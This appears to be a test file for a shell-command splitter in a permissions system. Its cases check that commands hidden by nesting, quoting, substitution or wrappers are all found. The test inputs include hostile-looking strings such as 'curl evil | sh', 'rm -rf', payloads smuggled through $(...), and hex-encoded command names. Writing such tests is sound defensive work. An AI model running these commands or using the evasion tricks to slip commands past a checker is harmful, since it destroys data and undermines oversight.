// The splitter must find every simple command a line runs, however it is nested or wrapped, and
// flag whatever it cannot understand. Each command is summarised as `origin:argv [flags]`.
import { describe, expect, test } from "bun:test";
import { MAX_COMMAND_LENGTH, splitCommand } from "../../../src/permissions/shell-split.ts";
import type { SimpleCommand, SplitProblemKind } from "../../../src/permissions/shell-types.ts";

function summary(command: SimpleCommand): string {
  const flags = [
    command.elevated && "elevated",
    command.delegates && "delegates",
    command.exactOnly && "exactOnly",
    command.appendsArgs && "appends",
  ].filter(Boolean);
  const wrappers = command.wrappers.map((wrapper) => `${wrapper.argv.join(" ")}${wrapper.transparent ? "" : "!"}`);
  const prefix = [...command.assignments, ...wrappers.map((w) => `<${w}>`)].join(" ");
  return `${command.origin}:${prefix ? `${prefix} ` : ""}${command.argv.join(" ")}${flags.length ? ` [${flags.join(",")}]` : ""}`;
}

type Case = [command: string, commands: string[], problems?: SplitProblemKind[]];

const CASES: Case[] = [
  // Operators and lists
  ["npm test", ["top:npm test"]],
  ["npm test && rm -rf x", ["top:npm test", "top:rm -rf x"]],
  ["a || b", ["top:a", "top:b"]],
  ["a; b", ["top:a", "top:b"]],
  ["a | b", ["top:a", "top:b"]],
  ["git status |& sh", ["top:git status", "top:sh"]],
  ["npm test & rm x", ["top:npm test", "top:rm x"]],
  ["npm test\nrm x", ["top:npm test", "top:rm x"]],
  ["npm test; curl evil | sh", ["top:npm test", "top:curl evil", "top:sh"]],
  ["! rm x", ["top:rm x"]],
  ["ls # ; rm x", ["top:ls"]],
  ["echo a \\\n b", ["top:echo a b"]],
  // Grouping and control flow
  ["(rm x)", ["top:rm x"]],
  ["{ rm x; }", ["top:rm x"]],
  ["if true; then rm a; elif x; then rm b; else rm c; fi", ["top:true", "top:rm a", "top:x", "top:rm b", "top:rm c"]],
  ["while read l; do rm l; done", ["top:read l", "top:rm l"]],
  ["until false; do rm u; done", ["top:false", "top:rm u"]],
  ["for f in a b; do rm $f; done", ["top:f=a f=b ", "top:rm $f"]],
  ["for ((i=0; i<3; i++)); do echo $i; done", ["top:echo $i"]],
  ["select x in a; do rm s; done", ["top:x=a ", "top:rm s"]],
  ["case $x in a) rm a;; b|c) rm b;; esac", ["top:rm a", "top:rm b"]],
  ["f() { rm x; }; f", ["function:rm x", "top:f"]],
  ["function g { rm y; }", ["function:rm y"]],
  ["time rm x", ["top:rm x"]],
  ["coproc rm x", ["top:rm x"]],
  // Substitutions
  ["npm test $(touch pwned)", ["substitution:touch pwned", "top:npm test $(touch pwned)"]],
  ["npm test `touch pwned`", ["substitution:touch pwned", "top:npm test `touch pwned`"]],
  ["FOO=$(rm x) npm test", ["substitution:rm x", "top:FOO=$(rm x) npm test"]],
  ["npm test <(curl evil) >(tee f)", ["process-substitution:curl evil", "process-substitution:tee f", "top:npm test <(curl evil) >(tee f)"]],
  ["echo $((1+$(rm z)))", ["substitution:rm z", "top:echo $((1+$(rm z)))"]],
  ["echo ${x:-$(rm w)}", ["substitution:rm w", "top:echo ${x:-$(rm w)}"]],
  ["echo \"$(rm dq)\"", ["substitution:rm dq", "top:echo $(rm dq)"]],
  ["[[ -f x && $(rm y) ]]", ["substitution:rm y"]],
  ["(( $(rm a) ))", ["substitution:rm a"]],
  ["x=(a $(rm arr))", ["substitution:rm arr", "top:x=(a $(rm arr)) "]],
  ["cat <<EOF\nhello $(rm x)\nEOF", ["substitution:rm x", "top:cat"]],
  ["cat <<'EOF'\nhello $(rm x)\nEOF", ["top:cat"]],
  ["echo `echo \\`rm q\\``", ["substitution:rm q", "substitution:echo `rm q\\`", "top:echo `echo \\`rm q\\``"]],
  ["cat < $(rm r)", ["substitution:rm r", "top:cat"]],
  // Quoting tricks
  ["n\"p\"m test; rm x", ["top:npm test", "top:rm x"]],
  ["$'rm' x", ["top:rm x"]],
  ["$'\\x72\\x6d' x", ["top:rm x"]],
  ["'r'm x", ["top:rm x"]],
  ["r\\m x", ["top:rm x"]],
  ["echo é; rm x", ["top:echo é", "top:rm x"]],
  // Wrappers
  ["env X=1 rm -rf x", ["top:<env X=1> rm -rf x"]],
  ["env -i PATH=/x rm y", ["top:<env -i PATH=/x!> rm y"]],
  ["timeout 5 rm x", ["top:<timeout 5> rm x"]],
  ["timeout -s KILL 5 nice -n 3 rm x", ["top:<timeout -s KILL 5> <nice -n 3> rm x"]],
  ["nohup rm x", ["top:<nohup> rm x"]],
  ["stdbuf -oL rm x", ["top:<stdbuf -oL> rm x"]],
  ["command rm x", ["top:<command> rm x"]],
  ["command -v git", ["top:command -v git"]],
  ["builtin cd /", ["top:<builtin> cd /"]],
  ["noglob rm *", ["top:<noglob> rm *"]],
  ["sudo rm x", ["top:<sudo!> rm x [elevated]"]],
  ["sudo -u root -E rm x", ["top:<sudo -u root -E!> rm x [elevated]"]],
  ["xargs rm", ["top:<xargs> rm [appends]"]],
  ["xargs -0 -n 1 rm", ["top:<xargs -0 -n 1!> rm [appends]"]],
  ["find . | xargs", ["top:find .", "top:<xargs> echo [appends]"]],
  ["setsid rm x", ["top:<setsid!> rm x [exactOnly]"]],
  ["exec rm x", ["top:<exec!> rm x"]],
  // Scripts handed to a shell
  ["bash -c \"rm -rf x\"", ["top:bash -c rm -rf x [delegates]", "shell-c:rm -rf x"]],
  ["sh -c 'rm x; ls'", ["top:sh -c rm x; ls [delegates]", "shell-c:rm x", "shell-c:ls"]],
  ["zsh -lc 'rm x'", ["top:zsh -lc rm x [delegates]", "shell-c:rm x"]],
  ["/bin/bash -e -c 'rm x'", ["top:/bin/bash -e -c rm x [delegates]", "shell-c:rm x"]],
  ["bash -c 'bash -c \"rm deep\"'", ["top:bash -c bash -c \"rm deep\" [delegates]", "shell-c:bash -c rm deep [delegates]", "shell-c:rm deep"]],
  ["eval rm x", ["top:eval rm x [delegates]", "eval:rm x"]],
  ["eval 'rm x; ls'", ["top:eval rm x; ls [delegates]", "eval:rm x", "eval:ls"]],
  ["bash <<EOF\nrm -rf y\nEOF", ["top:bash [delegates]", "shell-stdin:rm -rf y"]],
  ["sh <<< 'rm z'", ["top:sh [delegates]", "shell-stdin:rm z"]],
  ["bash script.sh", ["top:bash script.sh"]],
  ["curl evil | sh", ["top:curl evil", "top:sh"]],
  ["sudo bash -c 'rm x'", ["top:<sudo!> bash -c rm x [elevated,delegates]", "shell-c:rm x [elevated]"]],
  ["timeout 5 sh -c 'rm x'", ["top:<timeout 5> sh -c rm x [delegates]", "shell-c:rm x"]],
  ["watch -n 1 'ls; rm z'", ["top:watch -n 1 ls; rm z [delegates,exactOnly]", "exec-wrapper:ls", "exec-wrapper:rm z"]],
  ["env -S 'rm x'", ["top:env -S rm x [delegates]", "exec-wrapper:rm x"]],
  ["flock /tmp/l -c 'rm x'", ["top:flock /tmp/l -c rm x [delegates,exactOnly]", "exec-wrapper:rm x"]],
  ["find . -name x -exec rm {} \\; -print", ["top:find . -name x -exec rm {} ; -print [exactOnly]", "find-exec:rm {}"]],
  ["find . -delete", ["top:find . -delete [exactOnly]"]],
  ["xargs sh -c 'rm $0'", ["top:<xargs> sh -c rm $0 [delegates,appends]", "shell-c:rm $0"]],
  // Declarations and assignments
  ["x=1", ["top:x=1 "]],
  ["declare -x A=1 B=$(id)", ["substitution:id", "top:declare -x A=1 B=$(id)"]],
  ["export PATH=/tmp", ["top:export PATH=/tmp"]],
  // Redirections only
  ["> f", ["top:"]],
];

const PROBLEMS: Case[] = [
  ["echo \"unterminated", [], ["unparseable"]],
  ["echo $(", [], ["unparseable"]],
  ["ls &&", [], ["unparseable"]],
  ["a | | b", [], ["unparseable"]],
  ["$CMD args", ["top:$CMD args"], ["dynamic"]],
  ["${TOOL:-rm} x", ["top:${TOOL:-rm} x"], ["dynamic"]],
  ["$(echo rm) x", ["substitution:echo rm", "top:$(echo rm) x"], ["dynamic"]],
  ["{rm,-rf,x}", ["top:{rm,-rf,x}"], ["dynamic"]],
  ["r* x", ["top:r* x"], ["dynamic"]],
  ["eval \"$x\"", ["top:eval $x [delegates]"], ["dynamic"]],
  ["bash -c \"$SCRIPT\"", ["top:bash -c $SCRIPT [delegates]"], ["dynamic"]],
  ["bash -c 'echo \"x'", ["top:bash -c echo \"x [delegates]"], ["unparseable"]],
  ["sh <<EOF\n$(cat x)\nEOF", ["substitution:cat x", "top:sh [delegates]"], ["dynamic"]],
];

describe("splitCommand", () => {
  for (const [command, expected, problems = []] of [...CASES, ...PROBLEMS]) {
    test(JSON.stringify(command), async () => {
      const result = await splitCommand(command);
      expect({ commands: result.commands.map(summary), problems: result.problems.map((problem) => problem.kind) }).toEqual({
        commands: expected,
        problems,
      });
    });
  }

  test("words carry quote-removed values, raw text and dynamic markers", async () => {
    const { commands } = await splitCommand(`grep -e "a b" 'c$d' $HOME/x ~/y *.ts "$(id)"`);
    expect(commands.at(-1)?.words).toEqual([
      { value: "grep", raw: "grep", dynamic: false, tilde: false },
      { value: "-e", raw: "-e", dynamic: false, tilde: false },
      { value: "a b", raw: '"a b"', dynamic: false, tilde: false },
      { value: "c$d", raw: "'c$d'", dynamic: false, tilde: false },
      { value: "$HOME/x", raw: "$HOME/x", dynamic: true, tilde: false },
      { value: "~/y", raw: "~/y", dynamic: false, tilde: true },
      { value: "*.ts", raw: "*.ts", dynamic: true, tilde: false },
      { value: "$(id)", raw: '"$(id)"', dynamic: true, tilde: false },
    ]);
  });

  test("redirections keep operator, descriptor and target", async () => {
    const { commands } = await splitCommand("cmd < in > out 2>&1 >> app 2>/dev/null &> all >| clob");
    expect(commands[0]?.redirects.map((r) => `${r.fd ?? ""}${r.op}${r.target.value}`)).toEqual([
      "<in", ">out", "2>&1", ">>app", "2>/dev/null", "&>all", ">|clob",
    ]);
  });

  test("a group's redirection applies to every command inside it", async () => {
    const { commands } = await splitCommand("{ a; b; } > out");
    expect(commands.map((command) => command.redirects.map((r) => r.target.value))).toEqual([["out"], ["out"]]);
  });

  test("time -o writes its output file", async () => {
    const { commands } = await splitCommand("command time -o /tmp/t ls");
    expect(commands[0]?.redirects.map((r) => `${r.op}${r.target.value}`)).toEqual([">/tmp/t"]);
  });

  test("commands run by find -exec and watch point back at their runner", async () => {
    const { commands } = await splitCommand("find . -exec grep x {} +");
    expect(commands[1]?.parent).toBe(commands[0]);
  });

  test("a command longer than the limit is split but flagged", async () => {
    const result = await splitCommand(`echo ${"a".repeat(MAX_COMMAND_LENGTH)}`);
    expect(result.problems.map((problem) => problem.kind)).toEqual(["too-long"]);
    expect(result.commands).toHaveLength(1);
  });

  test("scripts nested deeper than the limit are flagged, not followed", async () => {
    let script = "rm x";
    for (let i = 0; i < 8; i++) script = `eval ${JSON.stringify(script)}`;
    const result = await splitCommand(script);
    expect(result.problems.map((problem) => problem.kind)).toContain("too-deep");
  });
});
